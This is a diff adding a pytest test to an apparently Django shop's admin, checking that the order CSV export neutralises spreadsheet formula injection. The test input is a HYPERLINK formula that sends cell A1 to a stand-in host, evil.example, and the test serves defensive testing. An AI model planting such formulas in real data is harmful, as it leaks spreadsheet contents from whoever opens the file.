@@ -128,3 +128,18 @@ def test_merchants_cannot_refund_from_the_admin(merchant, user, variant, place, 
     order.refresh_from_db()
     assert (order.payment_status, order.refunded_amount) == ("paid", 0)
     assert gateway_refund == []
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_neutralises_formulae(admin_client, user, variant, place, lead):
+    """A customer types the name and address: a cell a spreadsheet would run as a formula is
+    exported as text (a leading apostrophe), never as the formula."""
+    order = place(user, (variant, 1))
+    evil = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
+    address = {**order.shipping_address, "full_name": evil, "street": evil}
+    Order.objects.filter(pk=order.pk).update(shipping_address=address)
+    response = act(admin_client, "export_csv", [order])
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[0]["full_name"] == "'" + evil
+    assert not rows[0]["address"].startswith(lead)
+    assert rows[0]["total"] == "60.00"  # numbers stay numbers
